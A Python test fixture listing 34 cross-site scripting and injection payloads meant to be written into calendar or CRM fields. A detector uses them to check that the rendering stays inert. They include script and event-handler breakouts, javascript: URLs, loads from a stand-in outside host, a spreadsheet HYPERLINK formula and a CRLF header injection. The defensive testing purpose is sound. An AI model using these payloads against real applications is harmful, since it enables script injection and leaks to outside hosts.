"""Texts that a stranger may write into a calendar or a CRM, each an attempt to become more than text.

Every one of them carries MARK, so that a test can tell that it was shown, and would do at least one of these, which the
detector (watched.py) sees: ask another host, open a dialog, break the content security policy, add an element `x-pwn`.
"""

MARK = "PWN"
OUTSIDE = "http://outside.invalid"

PAYLOADS = [
    # Elements that run or load something.
    "<script>alert('PWN')</script>",
    "</title><script>alert('PWN')</script>",
    "</textarea><script>alert('PWN')</script>",
    "</script><script>alert('PWN')</script>",
    "--><script>alert('PWN')</script><!--",
    "]]><script>alert('PWN')</script>",
    f"<img src={OUTSIDE}/PWN.png>",
    "<img src=x onerror=alert('PWN')>",
    "<svg onload=alert('PWN')><x-pwn>",
    "<svg><script>alert('PWN')</script></svg>",
    "<math><mtext><style><img src=x onerror=alert('PWN')></style></mtext></math>",
    f"<iframe src={OUTSIDE}/PWN></iframe>",
    "<iframe srcdoc=\"<script>alert('PWN')</script>\"></iframe>",
    f"<object data={OUTSIDE}/PWN></object>",
    f"<embed src={OUTSIDE}/PWN>",
    f"<link rel=stylesheet href={OUTSIDE}/PWN.css>",
    f"<style>@import '{OUTSIDE}/PWN.css';</style><x-pwn>",
    f"<meta http-equiv=refresh content=\"0;url={OUTSIDE}/PWN\">",
    f"<base href={OUTSIDE}/PWN/><x-pwn>",
    f"<form action={OUTSIDE}/PWN><button>Log</button></form><x-pwn>",
    f"<video poster={OUTSIDE}/PWN.png></video><x-pwn>",
    # Ways out of an attribute.
    "\" autofocus onfocus=alert('PWN') x=\"",
    "' autofocus onfocus=alert('PWN') x='",
    "\"><x-pwn onclick=alert('PWN')>PWN</x-pwn>",
    "'><x-pwn>PWN</x-pwn>",
    "`><img src=x onerror=alert('PWN')>",
    # Addresses that run.
    "javascript:alert('PWN')",
    "<a href=\"javascript:alert('PWN')\">PWN</a><x-pwn>",
    "<a href=\"data:text/html,<script>alert('PWN')</script>\">PWN</a><x-pwn>",
    # Escaping that goes by characters and not by scalars, or twice, or once too few.
    "<x-pwn>\u0301PWN<img src=x onerror=alert('PWN') alt=\"\u0301\">\u0301",
    "\"\u0301 onfocus=alert('PWN') \u0301autofocus",
    "&lt;script&gt;alert('PWN')&lt;/script&gt;&#60;x-pwn&#62;",
    # Text that looks like something else.
    "\u202e<x-pwn>PWN gol kcilC\u202c \u2066{{constructor.constructor('alert(1)')()}} ${alert('PWN')}",
    "=HYPERLINK(\"" + OUTSIDE + "/PWN\",\"PWN\") \u001b]8;;http://x\u0007 %0d%0aSet-Cookie: PWN=1 <x-pwn>",
]

assert len(PAYLOADS) == 34 and all(MARK in text for text in PAYLOADS)
